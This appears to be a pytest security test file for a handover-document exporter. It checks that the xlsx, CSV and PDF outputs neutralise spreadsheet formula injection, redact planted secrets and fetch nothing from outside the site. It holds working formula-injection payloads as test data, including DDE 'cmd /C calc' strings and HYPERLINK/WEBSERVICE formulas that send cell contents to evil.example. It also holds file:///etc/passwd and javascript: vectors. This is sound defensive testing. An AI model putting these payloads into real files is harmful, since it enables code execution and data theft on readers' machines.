"""What `handover export` hands to another company is inert: a package's text never
becomes a spreadsheet formula (the xlsx workbook and the tables' CSV download), the PDF
fetches nothing from outside the built site, and a secret found in the package appears
in neither file.

One copy of the complete example is planted with formula vectors (need titles, owners,
requirement titles, handover.yaml values) and secrets, and exported once per format."""

from __future__ import annotations

import contextlib
import csv
import importlib.util
import io
import itertools
import json
import re
import shutil
import socket
import subprocess
import threading
import zipfile
import zlib
from pathlib import Path

import pytest
import yaml
from conftest import AS_OF, EXAMPLES
from openpyxl import load_workbook

from handover_kit.cli import main
from handover_kit.export import xlsx as xlsx_module
from handover_kit.export.cells import Sheet, formula_like

REPO = Path(__file__).resolve().parent.parent
TABLES_JS = REPO / "extensions" / "sphinx_handover" / "static" / "handover-tables.js"

#: What a package may write where the exports show text: formulas that call out
#: (HYPERLINK, WEBSERVICE), DDE, each formula character and its full-width form.
VECTORS = (
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '＝HYPERLINK("https://evil.example/","開く")',
    "＋1＋1",
    "－1＋2",
    "＠SUM(A1:A9)",
    '=WEBSERVICE("https://evil.example/?"&B2)',
    '=DDE("cmd";"/C calc";"!A0")',
)
#: Texts the writer gets as they are (a sheet of our own): what no package field keeps,
#: leading white space, a tab, a carriage return.
RAW_VECTORS = ("  =1+1", "\t=1+1", "\r=1+1", "=1+1", "\u3000＝1+1", "\n@A1", " -1+1")
HARMLESS = ("受入チェック：復旧手順の確認", "1-2", "—", "1+1", "a=b", "e-mail")
SECRETS = {
    "runbook": "Zq7mW2xLk9aa",
    "check title": "Wd3kT6yPq8ee",
    "escalation channel": "Hx4nR8tVq2cc",
    "role holder": "Rb5mK7wZq3dd",
    "system name": "Pn2xV8sLq4ff",
}


class _Recorder:
    """A TCP server on 127.0.0.1 that records every connection made to it (HTTP or TLS)."""

    def __init__(self) -> None:
        self.socket = socket.create_server(("127.0.0.1", 0))
        self.port = self.socket.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.socket.accept()
            except OSError:
                return
            with connection:
                connection.settimeout(2)
                try:
                    self.received.append(connection.recv(200) or b"(connected)")
                except OSError:
                    self.received.append(b"(connected)")

    def close(self) -> None:
        self.socket.close()


@pytest.fixture(scope="module")
def recorder():
    server = _Recorder()
    yield server
    server.close()


def _plant(root: Path, port: int) -> None:
    vectors = itertools.cycle(VECTORS)
    for page in sorted((root / "chapters").glob("*.md")):
        text = page.read_text("utf-8")
        text = re.sub(r"^(```\{(?:check|req)\} ).*$", lambda m: m[1] + next(vectors), text, flags=re.MULTILINE)
        text = re.sub(r"^:owner: .*$", lambda m: ":owner: " + next(vectors), text, flags=re.MULTILINE)
        page.write_text(text, "utf-8")
    acceptance = root / "chapters" / "10-acceptance.md"
    text = acceptance.read_text("utf-8")
    text = re.sub(r"^(```\{check\} .*)$", rf"\1 DB_PASSWORD={SECRETS['check title']}", text, count=1, flags=re.M)
    acceptance.write_text(text, "utf-8")
    runbook = root / "runbooks" / "batch-rerun.md"
    runbook.write_text(
        runbook.read_text("utf-8") + f"\n\n```bash\nexport PGPASSWORD='{SECRETS['runbook']}'\n```\n", "utf-8"
    )
    data = yaml.safe_load((root / "handover.yaml").read_text("utf-8"))
    data["project"]["system"] = f"{VECTORS[1]} password: {SECRETS['system name']}"
    data["project"]["vendor"] = VECTORS[0]
    data["project"]["customer"] = VECTORS[5]
    for role, vector in zip(data["roles"].values(), VECTORS, strict=False):
        role["name"] = vector
    data["roles"]["service_owner"]["who"] = f"高橋 正樹、パスワード：{SECRETS['role holder']}"
    for level, vector in zip(data["escalation"], VECTORS[2:], strict=False):
        level["who"] = vector
    data["escalation"][0]["channel"] = f"PagerDuty password: {SECRETS['escalation channel']}"
    data["sla"][0]["definition"] = VECTORS[3]
    (root / "handover.yaml").write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), "utf-8")
    # Images the PDF must not fetch: https (the page keeps it), http (dropped), file://.
    sheet = root / "go-no-go.md"
    sheet.write_text(
        sheet.read_text("utf-8")
        + f'\n<img src="https://127.0.0.1:{port}/pixel.png" alt="https">\n'
        + f'\n<img src="http://127.0.0.1:{port}/plain.png" alt="http">\n'
        + '\n<img src="file:///etc/passwd" alt="file">\n'
        + '\n[第1章](chapters/01-service-overview.md)、<a href="https://example.com/terms">利用規約</a>\n',
        "utf-8",
    )


@pytest.fixture(scope="module")
def planted(tmp_path_factory, recorder):
    folder = tmp_path_factory.mktemp("planted")
    root = folder / "pkg"
    shutil.copytree(EXAMPLES / "ec-order-service", root, ignore=shutil.ignore_patterns("_build"))
    _plant(root, recorder.port)
    return root


@pytest.fixture(scope="module")
def workbook(planted):
    """The planted package's workbook, with one more sheet of RAW_VECTORS and HARMLESS
    written by the same writer (no package field keeps leading white space)."""
    path = planted.parent / "handover.xlsx"
    original = xlsx_module.all_sheets

    def with_raw(source):
        raw = Sheet("raw", ["text"], rows=[[value] for value in (*RAW_VECTORS, *HARMLESS)])
        return [*original(source), raw]

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(xlsx_module, "all_sheets", with_raw)
        code = main(["export", "xlsx", str(planted), "--out", str(path), "--as-of", AS_OF])
    assert code == 1  # written; the secrets block the verdict
    return path


def _cells(path: Path):
    book = load_workbook(path)
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def test_formula_like_finds_every_formula_start():
    for value in (*VECTORS, *RAW_VECTORS, "\t", "\r"):
        assert formula_like(value), value
    for value in ("受入チェック", "1+1", "a=b", "—", "", " ", "e-mail"):
        assert not formula_like(value), value


def test_no_cell_of_the_workbook_is_a_formula(workbook):
    cells = _cells(workbook)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(workbook) as archive:
        names = archive.namelist()
        sheets = [archive.read(name).decode("utf-8") for name in names if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)
    # The exporter makes no link: nothing in the workbook points anywhere.
    assert not any("hyperlink" in xml for xml in sheets)
    assert not [name for name in names if "externalLink" in name]


def test_every_planted_vector_is_text_marked_as_text(workbook):
    cells = [cell for cell in _cells(workbook) if isinstance(cell.value, str)]
    shown = {cell.value for cell in cells}
    # Each vector reached the workbook (a title, an owner, a yaml value or the raw sheet),
    # as the package wrote it: no apostrophe shows.
    for vector in (*VECTORS, *(value for value in RAW_VECTORS if value.strip() == value)):
        assert vector in shown, vector
    looks_like_formula = [cell for cell in cells if formula_like(cell.value)]
    assert len(looks_like_formula) >= len(VECTORS) + len(RAW_VECTORS)
    for cell in looks_like_formula:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.parent.title, cell.coordinate, cell.value)
    # Text that is not a formula is left alone, Japanese included.
    harmless = [cell for cell in cells if cell.value in HARMLESS]
    assert {cell.value for cell in harmless} == set(HARMLESS)
    assert not any(cell.quotePrefix for cell in harmless)


def test_the_cover_names_the_planted_system_as_text(workbook):
    book = load_workbook(workbook)
    cover = book.worksheets[0]
    system = cover["B2"]
    assert system.value.startswith("=cmd|") and system.data_type == "s" and system.quotePrefix


def test_no_secret_or_build_path_reaches_the_workbook(workbook, planted):
    with zipfile.ZipFile(workbook) as archive:
        content = b"".join(archive.read(name) for name in archive.namelist()).decode("utf-8", "replace")
    assert "[REDACTED]" in content
    assert not [where for where, secret in SECRETS.items() if secret in content]
    assert str(planted) not in content


def _csv_field():
    source = TABLES_JS.read_text("utf-8")
    found = re.search(r"(const FORMULA[\s\S]*?)// end csv-field", source)
    assert found, "handover-tables.js: the csv-field block is missing"
    return found[1]


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_the_csv_field_quotes_and_neutralises(tmp_path):
    values = [*VECTORS, *RAW_VECTORS, *HARMLESS, '="1"&"2"', 'a "quoted" word', "-3", "+1.5", "-1,000"]
    script = tmp_path / "field.js"
    script.write_text(
        _csv_field() + f"\nprocess.stdout.write(JSON.stringify({json.dumps(values)}.map(csvField)));\n", "utf-8"
    )
    run = subprocess.run(["node", str(script)], capture_output=True, text=True, check=True)
    fields = dict(zip(values, json.loads(run.stdout), strict=True))
    for value, field in fields.items():
        assert field.startswith('"') and field.endswith('"'), field
        [parsed] = next(csv.reader(io.StringIO(field)))
        numeric = re.fullmatch(r"[+-]?\d+(?:[.,]\d+)*", value)
        if formula_like(value) and not numeric:
            assert parsed == "'" + value, (value, field)
        else:
            assert parsed == value, (value, field)
    assert fields['a "quoted" word'] == '"a ""quoted"" word"'


def test_the_downloaded_csv_is_inert(browser, serve, planted):
    assert main(["build", str(planted), "--as-of", AS_OF]) == 1
    base = serve(planted / "_build" / "html")
    page = browser.new_page(accept_downloads=True)
    page.goto(f"{base}/chapters/10-acceptance.html")
    with page.expect_download() as download:
        page.locator(".handover-table-tools button").first.click()
    rows = list(csv.reader(io.StringIO(download.value.path().read_text("utf-8-sig"))))
    page.close()
    fields = [field for row in rows for field in row]
    assert fields and all(not formula_like(field) for field in fields)
    planted_titles = {field[1:] for field in fields if field.startswith("'")}
    assert len(planted_titles & set(VECTORS)) >= 5, planted_titles
    assert not any(secret in field for field in fields for secret in SECRETS.values())


needs_pdf = pytest.mark.skipif(
    importlib.util.find_spec("weasyprint") is None or shutil.which("pdftotext") is None,
    reason="WeasyPrint (handover-kit[pdf]) or pdftotext is not installed",
)


@needs_pdf
def test_the_pdf_fetches_nothing_and_holds_no_secret(planted, recorder, tmp_path):
    pdf = tmp_path / "sheet.pdf"
    assert main(["export", "pdf", str(planted), "--as-of", AS_OF, "--out", str(pdf)]) == 1
    page = (planted / "_build" / "html" / "go-no-go.html").read_text("utf-8")
    assert f"https://127.0.0.1:{recorder.port}/pixel.png" in page  # the vector reached the page
    assert recorder.received == []
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    info = subprocess.run(["pdfinfo", str(pdf)], capture_output=True, text=True, check=True).stdout
    assert "root:" not in text
    assert not [where for where, secret in SECRETS.items() if secret in text or secret in info]
    # The link to a page of the site is not a file:// URL into the build folder.
    content = _pdf_bytes(pdf)
    assert _uris(content) == {b"https://example.com/terms"}
    assert str(planted).encode() not in content


def _pdf_bytes(path: Path) -> bytes:
    """The PDF with each of its compressed streams inflated (what a reader parses)."""
    raw = path.read_bytes()
    parts = [raw]
    for stream in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", raw, re.DOTALL):
        with contextlib.suppress(zlib.error):  # not every stream is deflated (images)
            parts.append(zlib.decompress(stream[1]))
    return b"\n".join(parts)


def _uris(content: bytes) -> set[bytes]:
    return set(re.findall(rb"/URI\s*\(([^)]*)\)", content))


@needs_pdf
def test_the_pdf_keeps_only_links_a_reader_can_follow(tmp_path):
    import weasyprint

    from handover_kit.export.pdf import _inert

    site = tmp_path / "site"
    site.mkdir()
    (site / "own.css").write_text("p { color: black }", "utf-8")
    links = [
        "other.html",
        "https://example.com/a",
        "http://example.com/b",
        "mailto:ops@example.com",
        "file:///etc/passwd",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "#here",
    ]
    anchors = "".join(f'<p><a href="{link}">{index}</a></p>' for index, link in enumerate(links))
    (site / "page.html").write_text(
        f'<html><head><link rel="attachment" href="own.css"></head><body>{anchors}'
        '<p><a rel="attachment" href="own.css">attached</a></p><h2 id="here">here</h2></body></html>',
        "utf-8",
    )
    document = weasyprint.HTML(filename=str(site / "page.html")).render()
    _inert(document)
    pdf = tmp_path / "links.pdf"
    document.write_pdf(str(pdf))
    content = _pdf_bytes(pdf)
    assert _uris(content) == {b"https://example.com/a", b"http://example.com/b", b"mailto:ops@example.com"}
    assert b"/EmbeddedFile" not in content and str(site).encode() not in content
    assert b"/Dest" in content  # the link within the page still works


@needs_pdf
def test_the_pdf_fetcher_refuses_everything_outside_the_site(tmp_path, recorder):
    import weasyprint

    from handover_kit.export.pdf import _site_files_only

    site = tmp_path / "site"
    site.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_text("OUTSIDE THE SITE", "utf-8")
    (site / "linked.css").symlink_to(outside)
    (site / "own.css").write_text("p.own::after { content: 'SITE CSS' }", "utf-8")
    # A file of the site (an image the package supplied) that points out in turn.
    (site / "picture.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="10" height="10">'
        f'<image width="10" height="10" xlink:href="http://127.0.0.1:{recorder.port}/from-svg.png"/>'
        f'<image width="10" height="10" href="file://{outside}"/></svg>',
        "utf-8",
    )
    url = f"http://127.0.0.1:{recorder.port}"
    vectors = [
        f'@import url("{url}/import.css");',
        f'@import url("file://{outside}");',
        f'body {{ background: url("{url}/background.png") }}',
        f'@font-face {{ font-family: X; src: url("{url}/font.woff") }} p {{ font-family: X }}',
    ]
    (site / "page.html").write_text(
        f"""<html><head><style>{"".join(vectors)}</style>
<link rel="stylesheet" href="{url}/link.css"><link rel="stylesheet" href="linked.css">
<link rel="stylesheet" href="own.css"></head><body>
<img src="{url}/img.png"><img src="https://127.0.0.1:{recorder.port}/tls.png"><img src="file:///etc/passwd">
<object data="file://{outside}"></object><embed src="file://{outside}">
<a rel="attachment" href="file://{outside}">a</a><a rel="attachment" href="linked.css">b</a>
<svg><image href="{url}/svg.png"/></svg><img src="picture.svg"><p class="own">page</p></body></html>""",
        "utf-8",
    )
    before = len(recorder.received)
    document = weasyprint.HTML(filename=str(site / "page.html"), url_fetcher=_site_files_only(weasyprint, site))
    pdf = tmp_path / "page.pdf"
    document.write_pdf(str(pdf))
    assert recorder.received[before:] == []
    text = subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout
    assert "SITE CSS" in text  # a file of the site is read
    assert "OUTSIDE" not in text and "root:" not in text
    attached = subprocess.run(["pdfdetach", "-list", str(pdf)], capture_output=True, text=True, check=False).stdout
    assert "outside" not in attached and "linked" not in attached
